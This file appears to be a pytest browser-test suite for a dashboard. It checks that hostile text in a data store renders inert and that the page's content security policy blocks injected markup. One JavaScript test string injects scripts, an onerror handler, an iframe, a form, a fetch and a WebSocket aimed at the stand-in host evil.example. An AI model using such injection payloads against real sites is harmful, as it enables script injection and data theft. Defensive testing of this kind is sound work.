"""Text that wants to be markup, in a real browser: nothing runs, nothing is fetched, nothing is wider than the screen."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest
from conftest import dashboard
from hostile import IDS, TEXTS, hostile_store, whole_hostile_store
from steps import TOO_WIDE, Visits, settled, until

from extract.store import Store, write_store

pytestmark = pytest.mark.browser
VIEWS = [
    "", "?view=timeline", "?view=timeline&by=pair&from=1900-01-01&to=2100-01-01", "?view=map&layer=places",
    "?view=map&partners=NOR", "?view=country&country=NOR", "?view=pair&a=MLT&b=NOR",
    "?view=compare&compare=MLT,NOR,CHN", "?view=people", "?view=network", "?view=document", "?view=search&find=e",
    "?view=table&columns=date,title,kind,people,place,organizations,basis,quote,id", "?view=history", "?view=export",
    "?view=add",
    *(f"?{urlencode({'view': 'event', 'event': one})}" for one in IDS[:3]),
    *(f"?{urlencode({'view': 'person', 'name': one})}" for one in TEXTS[:4]),
    *(f"?{urlencode({'view': 'document', 'document': one})}" for one in TEXTS[:3:2]),
    f"?{urlencode({'view': 'table', 'person': TEXTS[0], 'source': TEXTS[2], 'organization': TEXTS[4]}, doseq=True)}",
    f"?{urlencode({'view': TEXTS[0], 'kinds': TEXTS[1], 'q': TEXTS[3], 'lang': TEXTS[8]})}",
]


@pytest.fixture(scope="module")
def whole(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Store]:
    folder = tmp_path_factory.mktemp("hostile") / "store"
    return folder, whole_hostile_store(folder)


@pytest.fixture(scope="module")
def hostile(whole: tuple[Path, Store]) -> Iterator[str]:
    with dashboard(store=whole[0]) as address:
        yield address


def test_hostile_text_does_nothing(hostile: str, whole: tuple[Path, Store], open_page: Callable[..., Any]) -> None:
    page = open_page(hostile, width=390)
    visits, wide = Visits(page), []
    # Of what the extraction made of hostile files: some events, the first of them corrected, and their documents.
    read = [(one.id, one.sources[0].document) for one in whole[1].events[len(TEXTS):]]
    extracted = [f"?{urlencode({'view': 'event', 'event': one})}" for one, _ in read[:3]]
    extracted += [f"?{urlencode({'view': 'document', 'document': one})}" for _, one in read[1::6]]
    for view in [*VIEWS, *extracted]:
        visits.go(view, 300)
        assert not page.locator("[data-testid=stException]").count(), view
        assert not page.locator(".stApp script:not([src]), iframe[srcdoc], img[src*=evil], a[href^=http], a[href^=javascript]").count(), view
        if (over := page.evaluate(TOO_WIDE)) > 0:
            wide.append(f"{view}: {over} px too wide")
        if view == "?view=document":  # one long name does not push the rest of a table out of sight
            assert page.locator(".st-key-documents_table tbody th").first.bounding_box()["width"] < 260
    assert not wide, "\n".join(wide)


def test_a_store_that_comes_back_is_shown_by_itself(tmp_path: Path, open_page: Callable[..., Any]) -> None:
    folder = tmp_path / "store"
    write_store(folder, hostile_store())
    with dashboard(store=folder) as address:
        page = open_page(address + "?view=document")
        settled(page)
        folder.rename(tmp_path / "away")
        page.reload()
        page.wait_for_selector("text=there is no store here")
        until(page, "getComputedStyle(document.querySelector('.block-container')).maxWidth === '1600px'")
        (tmp_path / "away").rename(folder)
        page.wait_for_selector(".tab.here")
        page.goto("about:blank")


REACH_OUT = """async () => {
  const violations = [];
  document.addEventListener("securitypolicyviolation", (event) => violations.push(event.effectiveDirective));
  const add = (tag, values) => document.body.append(Object.assign(document.createElement(tag), values));
  add("img", { src: "http://evil.example/a.png" });
  add("script", { textContent: "window.ran = 1" });
  add("script", { src: "http://evil.example/a.js" });
  add("iframe", { src: "http://evil.example/" });
  add("div", { innerHTML: "<img src=x onerror='window.ran = 2'><form action='http://evil.example/'></form>" });
  add("link", { rel: "stylesheet", href: "http://evil.example/a.css" });
  document.querySelector("form[action*=evil]").submit();
  await fetch("http://evil.example/").catch(() => 0);
  try { new WebSocket("ws://evil.example/"); } catch (refused) { violations.push("connect-src"); }
  await new Promise((resolve) => setTimeout(resolve, 500));
  return [window.ran || 0, [...new Set(violations)].sort()];
}"""


def test_even_markup_that_got_in_would_run_and_fetch_nothing(hostile: str, window: Any) -> None:
    page, asked = window.new_page(), []
    page.on("requestfinished", lambda request: asked.append(request.url) if "evil" in request.url else None)
    page.on("requestfailed", lambda request: None if request.failure == "csp" else asked.append(request.url))
    page.goto(f"{hostile}?view=timeline")
    settled(page)
    ran, refused = page.evaluate(REACH_OUT)
    page.close()
    assert (ran, asked) == (0, [])
    assert refused == ["connect-src", "form-action", "frame-src", "img-src", "script-src-attr", "script-src-elem",
                       "style-src-elem"]
